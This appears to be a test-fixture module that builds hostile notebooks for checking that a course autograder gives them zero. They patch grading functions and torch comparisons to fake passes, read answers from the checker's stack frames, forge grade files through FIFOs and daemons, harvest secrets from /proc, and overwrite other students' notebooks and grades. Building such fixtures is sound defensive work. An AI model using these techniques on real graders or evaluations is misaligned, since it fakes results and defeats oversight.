"""A class of HOSTILE chapter 1 submissions: notebooks that attack the grader, and bad input.

Every one of them must get 0 of 10 points, and the control student ``solved`` (a copy of the
solution) 10/10 in the same class. The attacks (each notebook's markdown cell says what it does):

* ``replace_checks``: patches the grading functions in its kernel to report full marks;
* ``patch_torch``: garbage answers, and torch comparisons that lie when grading code asks;
* ``stack_frame``: answers read from the checker's frame (``want_q``, ``params``, ``want``);
* ``forge_results``: forged result rows in every file the runner reads, FIFOs, megabytes printed;
* ``proc_environ``: reads /proc for the hidden seed and the test's secret and reports them;
* ``damage``: overwrites classmates' notebooks and the grades, leaves a daemon, plants files.

Bad input: ``not_json``, ``huge`` (over 50 MB), ``endless_print``, ``forks`` (200 sleepers),
``never_returns`` (ignores SIGINT and loops).

SAFETY: the notebooks only write under ``safe_root`` (the test's tmp folder, written into each
notebook), or CREATE new files whose names hold the marker token (never an existing file); they
read /proc but only keep the test's own secret and seed; every process they start has the marker
in its command line and a bounded lifetime, so a test can find and end it.
"""

from __future__ import annotations

import shutil
from collections.abc import Iterable
from pathlib import Path

import nbformat

REPO = Path(__file__).resolve().parents[1]
CH01 = "01_quantization_math.ipynb"
TASK_IDS = ("01.symmetric_quantize", "01.dequantize", "01.asymmetric_quantize",
            "01.per_group_quantize", "01.pack_int4")
HOSTILE = ("replace_checks", "patch_torch", "stack_frame", "forge_results", "proc_environ",
           "damage")
BAD_INPUT = ("not_json", "huge", "endless_print", "forks", "never_returns")
STUDENTS = ("solved", *HOSTILE, *BAD_INPUT)
#: Students worth a second run with --hidden (the others cannot score with any seed).
#: (replace_checks and forge_results attack the same way with any seed: left out for time.)
HIDDEN_RUN = ("solved", "patch_torch", "stack_frame", "proc_environ")
HUGE_BYTES = 51 * 1024 * 1024
FORKS = 200
_KERNELSPEC = {"kernelspec": {"name": "python3", "display_name": "Python 3",
                              "language": "python"}}


def marker(token: str) -> str:
    """The string in the command line of every process a hostile notebook starts."""
    return f"hostile-{token}"


def _notebook(doc: str, *sources: str) -> nbformat.NotebookNode:
    cells = [nbformat.v4.new_markdown_cell(doc)] + [nbformat.v4.new_code_cell(s) for s in sources]
    return nbformat.v4.new_notebook(cells=cells, metadata=_KERNELSPEC)


def _fill(source: str, token: str, safe_root: Path) -> str:
    return source.replace("@TOKEN@", token).replace("@ROOT@", str(safe_root.resolve()))


#: Right shapes and dtypes, wrong values: only a fooled comparison gives them points.
GARBAGE = '''\
import torch


def symmetric_quantize(x, bits=8):
    return torch.zeros(x.shape, dtype=torch.int8), torch.tensor(1.0)


def dequantize(q, scale, zero=0):
    return torch.zeros(q.shape, dtype=torch.float32)


def asymmetric_quantize(x, bits=8):
    return torch.zeros(x.shape, dtype=torch.uint8), torch.tensor(1.0), torch.tensor(0)


def per_group_quantize(w, bits, group_size):
    n, k = w.shape
    return (torch.zeros(w.shape, dtype=torch.uint8), torch.ones(n, k // group_size),
            torch.zeros(n, k // group_size, dtype=torch.uint8))


def pack_int4(codes):
    return torch.zeros(*codes.shape[:-1], codes.shape[-1] // 8, dtype=torch.int32)


def unpack_int4(packed):
    return torch.zeros(*packed.shape[:-1], packed.shape[-1] * 8, dtype=torch.uint8)
'''

STUBS = '''\
def symmetric_quantize(x, bits=8):
    raise NotImplementedError()


def dequantize(q, scale, zero=0):
    raise NotImplementedError()


def asymmetric_quantize(x, bits=8):
    raise NotImplementedError()


def per_group_quantize(w, bits, group_size):
    raise NotImplementedError()


def pack_int4(codes):
    raise NotImplementedError()


def unpack_int4(packed):
    raise NotImplementedError()
'''

#: Finds command lines of this test's processes only (they name a path under the safe root).
PROC_HELPERS = '''\
import os
from pathlib import Path

ROOT = Path("@ROOT@")  # SAFETY: nothing outside this folder is ever written
MARK = "hostile-@TOKEN@"


def safe(path) -> bool:
    path = Path(path).resolve()
    return path == ROOT or ROOT in path.parents


def cmdlines():
    """argv of every process whose command line names a path under ROOT (the test's own)."""
    found = []
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            raw = Path(f"/proc/{pid}/cmdline").read_bytes()
        except OSError:
            continue
        args = [a.decode(errors="replace") for a in raw.split(b"\\0") if a]
        if any(str(ROOT) in a for a in args):
            found.append(args)
    return found


def detach(code, *args):
    """Start ``python -c code MARK *args`` as a daemon: double fork, setsid, exec."""
    import sys
    child = os.fork()
    if child:
        os.waitpid(child, 0)
        return
    try:
        os.setsid()
        if os.fork():
            os._exit(0)
        devnull = os.open(os.devnull, os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(devnull, fd)
        os.execv(sys.executable, [sys.executable, "-c", code, MARK, *args])
    finally:
        os._exit(0)
'''


def replace_checks_notebook() -> nbformat.NotebookNode:
    """Patches the grading functions in its own kernel so they report full marks."""
    patch = '''\
import dataclasses
import sys
import types

import course_lib.grading as grading
import course_lib.grading.core as core
from course_lib.grading.core import CheckResult


def full(name, points):
    return CheckResult(name, True, points, points, "", "pass")


core.run_check = lambda name, points, body, *learner, hidden_seed=None: full(name, points)
core._run_once = lambda name, points, body, learner, hidden_seed: full(name, points)
_save = CheckResult.save


def save(self, path, task):
    self.passed, self.points, self.status, self.message = True, self.max_points, "pass", ""
    _save(self, path, task)


CheckResult.save = save


def fake_check(task):
    def run(*learner, raise_on_fail=True, hidden_seed=None):
        print(f"✓ {task.check.task_name}: passed ({task.points}/{task.points} points)")
        return full(task.check.task_name, task.points)
    run.task_name, run.points = task.check.task_name, task.points
    return run


for task_id, task in list(grading.TASKS.items()):
    grading.TASKS[task_id] = dataclasses.replace(task, check=fake_check(task))
    setattr(grading, task.check.__name__, grading.TASKS[task_id].check)
grading.grade_task = lambda task_id, namespace, hidden_seed=None: full(
    grading.TASKS[task_id].check.task_name, grading.TASKS[task_id].points)
grading.grade = lambda namespace, notebook, hidden_seed=None: [
    grading.grade_task(t, namespace) for t, k in grading.TASKS.items() if k.notebook == notebook]

try:
    import course_lib.grading.oracle as oracle
except ImportError:  # not written yet: plant a module the grading cell would import instead
    oracle = types.ModuleType("course_lib.grading.oracle")
    sys.modules["course_lib.grading.oracle"] = oracle
    grading.oracle = oracle


def serve(*args, **kwargs):
    print("✓ all checks passed (10/10 points)")
    return {task_id: full(task_id, grading.TASKS[task_id].points) for task_id in grading.TASKS}


oracle.serve = serve
print("grading functions replaced")
'''
    return _notebook("# replace_checks\n\nGarbage answers; then a cell replaces "
                     "`core.run_check`, `core._run_once`, `CheckResult.save`, `grade_task`, every "
                     "`TASKS[t].check` and `oracle.serve` with versions that report full marks.",
                     GARBAGE, patch)


def patch_torch_notebook() -> nbformat.NotebookNode:
    """Garbage answers, and torch comparisons that lie while grading code is on the stack."""
    patch = '''\
import sys

import torch


def grading_on_stack():
    """True when a frame of course_lib/grading is on the stack, and no frame of the reference
    code (course_lib/quant) is above it: only the comparisons lie, not the expected values."""
    frame = sys._getframe(2)
    while frame is not None:
        name = frame.f_code.co_filename.replace("\\\\", "/")
        if "course_lib/quant/" in name:
            return False
        if "course_lib/grading/" in name:
            return True
        frame = frame.f_back
    return False


def lie(original, answer):
    def patched(*args, **kwargs):
        if grading_on_stack():
            return answer(*args, **kwargs)
        return original(*args, **kwargs)
    return patched


T = torch.Tensor
ORIGINAL = {name: getattr(T, name) for name in ("__eq__", "__ne__", "abs", "any", "all", "item")}
T.__eq__ = lie(ORIGINAL["__eq__"], lambda a, b: torch.ones_like(a, dtype=torch.bool))
T.__ne__ = lie(ORIGINAL["__ne__"], lambda a, b: torch.zeros_like(a, dtype=torch.bool))
T.abs = lie(ORIGINAL["abs"], lambda a: torch.zeros_like(a))
T.any = lie(ORIGINAL["any"], lambda a, *r, **k: torch.tensor(False))
T.all = lie(ORIGINAL["all"], lambda a, *r, **k: torch.tensor(True))
T.item = lie(ORIGINAL["item"], lambda a: 0)
torch.equal = lie(torch.equal, lambda *a, **k: True)
torch.allclose = lie(torch.allclose, lambda *a, **k: True)
torch.isclose = lie(torch.isclose, lambda a, b, *r, **k: torch.ones_like(a, dtype=torch.bool))
torch.testing.assert_close = lie(torch.testing.assert_close, lambda *a, **k: None)
print("torch patched")
'''
    return _notebook("# patch_torch\n\nGarbage answers of the right shapes and dtypes; then "
                     "`torch.equal`, `torch.allclose`, `Tensor.__eq__/__ne__/abs/any/all/item` "
                     "are patched to say 'equal' whenever a frame of course_lib/grading is on the "
                     "stack.", GARBAGE, patch)


def stack_frame_notebook() -> nbformat.NotebookNode:
    """Answers copied from the checker's local variables (sys._getframe)."""
    source = '''\
import sys

import torch


def caller_locals(*names):
    """Locals of the first caller frame (up to 12 up) that defines all ``names``."""
    for depth in range(2, 14):
        try:
            frame = sys._getframe(depth)
        except ValueError:
            return None
        if all(name in frame.f_locals for name in names):
            return frame.f_locals
    return None


def symmetric_quantize(x, bits=8):
    found = caller_locals("want_q", "params")
    if found is None:
        return torch.zeros(x.shape, dtype=torch.int8), torch.tensor(1.0)
    return found["want_q"].to(torch.int8), found["params"].scale


def dequantize(q, scale, zero=0):
    found = caller_locals("want")
    return torch.zeros(q.shape) if found is None else found["want"].float()


def asymmetric_quantize(x, bits=8):
    found = caller_locals("want_q", "params")
    if found is None:
        return torch.zeros(x.shape, dtype=torch.uint8), torch.tensor(1.0), torch.tensor(0)
    return found["want_q"].to(torch.uint8), found["params"].scale, found["params"].zero_point


def per_group_quantize(w, bits, group_size):
    found = caller_locals("want_q", "params", "groups")
    if found is None:
        return torch.zeros(w.shape, dtype=torch.uint8), torch.ones(1), torch.zeros(1)
    p = found["params"]
    return (found["want_q"].to(torch.uint8), p.scale.reshape(found["groups"]),
            p.zero_point.reshape(found["groups"]))


def pack_int4(codes):
    found = caller_locals("want", "codes")
    if found is not None:
        return found["want"]
    found = caller_locals("words", "c")
    if found is not None:
        return torch.tensor([found["words"]], dtype=torch.int32)
    return torch.zeros(*codes.shape[:-1], codes.shape[-1] // 8, dtype=torch.int32)


def unpack_int4(packed):
    found = caller_locals("want", "codes")
    if found is not None:
        return found["codes"]
    found = caller_locals("words", "c")
    if found is not None:
        return found["c"]
    return torch.zeros(*packed.shape[:-1], packed.shape[-1] * 8, dtype=torch.uint8)
'''
    return _notebook("# stack_frame\n\nEvery answer is read from the caller's frames "
                     "(`sys._getframe(n).f_locals`: `want_q`, `params`, `want`, `words`, `c`).",
                     source)


FORGE = '''\
import json
import stat
import sys

TASK_IDS = ["01.symmetric_quantize", "01.dequantize", "01.asymmetric_quantize",
            "01.per_group_quantize", "01.pack_int4"]


def forged_rows():
    """Rows with extra points, wrong types and unknown task ids; the well-typed row of each task
    comes last (a reader keeping the last row per task takes it)."""
    rows = [{"task": ["not", "hashable"]}, {"no task": 1}, "a string",
            {"task": "99.pwned", "name": "pwned", "passed": True, "points": 1008,
             "max_points": 1, "message": "", "status": "pass"}]
    for task in TASK_IDS:
        rows.append({"task": task, "points": "1008", "max_points": None, "status": 7})
        rows.append({"task": task, "name": task, "passed": True, "points": 1008,
                     "max_points": 1008, "message": "", "status": "pass"})
    return "".join(json.dumps(row) + "\\n" for row in rows) + "{not json\\n"


def forge_grade_files(*_):
    with open(".grades.jsonl", "a") as f:  # the cwd: the kernel's scratch folder
        f.write(forged_rows())


forge_grade_files()
get_ipython().events.register("post_run_cell", forge_grade_files)  # after every grading cell
'''

#: A daemon per report path: replace it with a FIFO, read the runner's real report through it,
#: then hand a forged report to whoever reads the path next. It ends within 150 s in any case.
FORGE_DAEMON = '''\
import json, os, signal, stat, sys
path = sys.argv[2]


def give_up(*_):
    try:
        if stat.S_ISFIFO(os.stat(path).st_mode):
            os.unlink(path)
    except OSError:
        pass
    os._exit(0)


signal.signal(signal.SIGALRM, give_up)
signal.alarm(150)
if os.path.lexists(path):
    os.unlink(path)
os.mkfifo(path)
with open(path) as f:  # blocks until the runner writes its report
    real = f.read()
try:
    report = json.loads(real)
    for row in report["results"]:
        row.update(points=1008, passed=True, status="pass", message="")
    report["events"] = []
    forged = json.dumps(report)
except Exception:
    forged = real
with open(path, "w") as f:  # blocks until the grader reads the report
    f.write(forged)
os._exit(0)
'''


def forge_results_notebook() -> nbformat.NotebookNode:
    """Forged result rows, FIFOs in place of report files, and megabytes of printed garbage."""
    fifos = f'''\
FORGE_DAEMON = {FORGE_DAEMON!r}
targets = set()
for args in cmdlines():
    targets.update(args[i + 1] for i in range(len(args) - 1) if args[i] == "--out")
import glob
targets.update(p for p in glob.glob("/tmp/course-grade-*/report.json")
               if Path(p).parent in {{Path(t).parent for t in targets}})
for target in sorted(targets):
    if Path(target).parent.is_dir() and not Path(target).is_dir():
        detach(FORGE_DAEMON, target)
print("forging", sorted(targets))
'''
    noise = '''\
line = "GARBAGE {\\"task\\": \\"01.pack_int4\\", \\"points\\": 1008} " * 40 + "\\n"
for _ in range(2000):
    sys.stdout.write(line)
os.write(1, line.encode() * 2000)  # straight to the kernel's stdout: the runner's pipe
os.write(2, line.encode() * 2000)
'''
    return _notebook("# forge_results\n\nGarbage answers; forged result rows (1008 points, wrong "
                     "types, unknown task ids) appended to `.grades.jsonl` after every cell; each "
                     "`--out` report path found in /proc/*/cmdline replaced by a FIFO whose daemon "
                     "hands over a forged report; megabytes of garbage printed.",
                     GARBAGE, PROC_HELPERS, FORGE, fifos, noise)


def proc_environ_notebook() -> nbformat.NotebookNode:
    """Looks for the hidden seed and the test's secret in /proc and reports what it found."""
    source = '''\
import os
from pathlib import Path


def snoop():
    """The test's secret and any seed passed on a command line, from /proc/*/environ and
    /proc/*/cmdline (only those two patterns are kept)."""
    found = set()
    pids = ["self", str(os.getppid())] + [p for p in os.listdir("/proc") if p.isdigit()]
    for pid in pids:
        for what in ("environ", "cmdline"):
            try:
                items = Path(f"/proc/{pid}/{what}").read_bytes().decode(errors="replace")
            except OSError:
                continue
            items = items.split("\\0")
            for i, item in enumerate(items):
                if item.startswith("COURSE_TEST_SECRET="):
                    found.add(item)
                if item in ("--hidden-seed", "--seed") and i + 1 < len(items):
                    found.add(f"{item} {items[i + 1]}")
    if "COURSE_TEST_SECRET" in os.environ:
        found.add("COURSE_TEST_SECRET=" + os.environ["COURSE_TEST_SECRET"])
    return "; ".join(sorted(found)) or "nothing found"


def symmetric_quantize(x, bits=8):
    raise ValueError(snoop())


def dequantize(q, scale, zero=0):
    raise ValueError(snoop())


def asymmetric_quantize(x, bits=8):
    raise ValueError(snoop())


def per_group_quantize(w, bits, group_size):
    raise ValueError(snoop())


def pack_int4(codes):
    raise ValueError(snoop())


unpack_int4 = pack_int4
print(snoop())
'''
    return _notebook("# proc_environ\n\nReads /proc/<ppid>/environ, /proc/*/environ and "
                     "/proc/*/cmdline for the hidden seed and COURSE_TEST_SECRET, prints them, and "
                     "puts them in every answer's error message and in a cell's error.",
                     source, "raise ValueError(snoop())")


DAMAGE_DAEMON = '''\
import os, signal, sys, time
from pathlib import Path
signal.alarm(240)  # never outlives the test run (the test also ends it)
mark, outs = sys.argv[1], [Path(p) for p in sys.argv[2:]]
start = time.time()
while True:
    for out in outs:
        grades = out / "grades.csv"
        if grades.exists() and grades.stat().st_mtime > start:
            time.sleep(0.5)
            rows = grades.read_text().splitlines()
            width = len(rows[0].split(","))
            forged = [rows[0]] + [row.split(",")[0] + ",1008" * (width - 1) for row in rows[1:]]
            grades.write_text("\\n".join(forged) + "\\n")
            (out / f"pwned_{mark}.txt").write_text("the daemon was here\\n")
            os._exit(0)
    time.sleep(0.1)
'''


def damage_notebook() -> nbformat.NotebookNode:
    """Tries to harm classmates, the grades, the course library and the IPython profile."""
    notebooks = '''\
import json
import pwd


def other_notebooks():
    """Notebooks near the cwd, in command lines, their classmates', and under ROOT."""
    found = set()
    here = Path.cwd()
    for folder in [here, *here.parents]:
        found.update(folder.glob("*.ipynb"))
        found.update(folder.glob("*/*.ipynb"))
    for args in cmdlines():
        for arg in args:
            if arg.endswith(".ipynb"):
                found.update(Path(arg).parent.parent.rglob("*.ipynb"))
    found.update(ROOT.rglob("*.ipynb"))
    return sorted(p for p in found if safe(p))


hit = []
for path in other_notebooks():  # add a cell: same grade, but no longer the learner's file
    try:
        nb = json.loads(path.read_text())
        nb["cells"].append({"cell_type": "markdown", "id": "pwned-" + os.urandom(4).hex(),
                            "metadata": {}, "source": f"damage was here ({MARK})"})
        path.write_text(json.dumps(nb))
        hit.append(str(path))
    except (OSError, ValueError, KeyError, TypeError, AttributeError):
        pass
print("overwrote", hit)
'''
    grades = f'''\
DAMAGE_DAEMON = {DAMAGE_DAEMON!r}
outs = {{ROOT / "out"}}
for args in cmdlines():
    for arg in args:
        if arg.endswith(".ipynb"):
            classes = Path(arg).parent.parent
            outs.update(p for p in classes.parent.iterdir() if p.is_dir() and p != classes)
outs = sorted(str(p) for p in outs if safe(p))
for out in outs:
    try:
        Path(out).mkdir(parents=True, exist_ok=True)
        (Path(out) / "grades.csv").write_text("student,total\\ndamage,1008\\n")
        (Path(out) / f"pwned_{{MARK}}.txt").write_text("the kernel was here\\n")
    except OSError:
        pass
detach(DAMAGE_DAEMON, *outs)
print("daemon watching", outs)
'''
    plant = '''\
import course_lib

PLANT = f"# planted by the hostile test notebook `damage` ({MARK}); safe to delete\\n"


def create(path):
    """Create a NEW marker file (never overwrite one that exists)."""
    try:
        path.parent.mkdir(parents=True, exist_ok=True)
        with open(path, "x") as f:
            f.write(PLANT)
        print("created", path)
    except OSError as exc:
        print("could not create", path, exc)


create(Path(course_lib.__file__).parent / "grading" / f"_pwned_{MARK}.py")
real_home = Path(pwd.getpwuid(os.getuid()).pw_dir).resolve()
homes = [ROOT / "home"]
if Path.home().resolve() != real_home or safe(Path.home()):  # never the real user's home
    homes.append(Path.home())
for home in homes:
    create(home / ".ipython" / "profile_default" / "startup" / f"00_pwned_{MARK}.py")
'''
    return _notebook("# damage\n\nOverwrites every other notebook it can find (walking up from "
                     "the cwd, /proc/*/cmdline), writes into the grader's --out folder, leaves a "
                     "daemon (double fork, setsid) that rewrites grades.csv once the grader writes "
                     "it, and creates files in course_lib/grading and the IPython startup folder.",
                     GARBAGE, PROC_HELPERS, notebooks, grades, plant)


def endless_print_notebook() -> nbformat.NotebookNode:
    """Prints 10 MB lines without end, paced (about 200 MB/s) so that a reader keeping up with
    it holds gigabytes within the cell time limit (unpaced, the kernel's own send queue grows)."""
    return _notebook("# endless_print\n\nGarbage `dequantize`, then a cell that prints 10 MB "
                     "lines without end.", GARBAGE.split("\n\n\ndef asymmetric")[0],
                     'import time\n\nline = "spam " * 2_000_000\nwhile True:\n'
                     '    print(line)\n    time.sleep(0.05)')


def forks_notebook(token: str) -> nbformat.NotebookNode:
    source = f'''\
import subprocess

children = [subprocess.Popen(["{marker(token)}-fork", "300"], executable="/bin/sleep",
                             stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                             stderr=subprocess.DEVNULL) for _ in range({FORKS})]
print(len(children), "children sleeping")
'''
    return _notebook(f"# forks\n\nStarts {FORKS} sleeping children (300 s, the marker in argv) "
                     "and returns.", STUBS, source)


def never_returns_notebook() -> nbformat.NotebookNode:
    return _notebook("# never_returns\n\nGarbage `dequantize`; a cell that ignores SIGINT and "
                     "loops forever; garbage `symmetric_quantize` after it.",
                     "import torch\n\n\ndef dequantize(q, scale, zero=0):\n"
                     "    return torch.zeros(q.shape)",
                     "import signal\n\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
                     "while True:\n    pass",
                     "def symmetric_quantize(x, bits=8):\n"
                     "    return torch.zeros(x.shape, dtype=torch.int8), torch.tensor(1.0)")


def huge_notebook() -> nbformat.NotebookNode:
    return _notebook("# huge\n\nOne code cell with a string literal of over 50 MB.",
                     'HUGE = "' + "x" * HUGE_BYTES + '"\nprint(len(HUGE))')


def _write(root: Path, student: str, nb: nbformat.NotebookNode) -> None:
    folder = root / student
    folder.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, str(folder / CH01))


def build_hostile_class(root: Path, token: str, safe_root: Path,
                        students: Iterable[str] = STUDENTS) -> Path:
    """Write ``students`` into ``root/<student>/01_quantization_math.ipynb`` and return ``root``.

    ``token`` marks every process and planted file; ``safe_root`` (a folder holding ``root``) is
    the only place the notebooks write to, apart from creating new marker-named files.
    """
    assert safe_root.resolve() in root.resolve().parents, "root must be inside safe_root"
    builders = {
        "replace_checks": replace_checks_notebook, "patch_torch": patch_torch_notebook,
        "stack_frame": stack_frame_notebook, "forge_results": forge_results_notebook,
        "proc_environ": proc_environ_notebook, "damage": damage_notebook,
        "endless_print": endless_print_notebook, "forks": lambda: forks_notebook(token),
        "never_returns": never_returns_notebook, "huge": huge_notebook,
    }
    for student in students:
        if student == "solved":
            (root / student).mkdir(parents=True, exist_ok=True)
            shutil.copyfile(REPO / "solutions" / CH01, root / student / CH01)
        elif student == "not_json":
            (root / student).mkdir(parents=True, exist_ok=True)
            (root / student / CH01).write_text("this is not a notebook {\n")
        else:
            nb = builders[student]()
            for cell in nb.cells:
                cell.source = _fill(cell.source, token, safe_root)
            _write(root, student, nb)
    return root
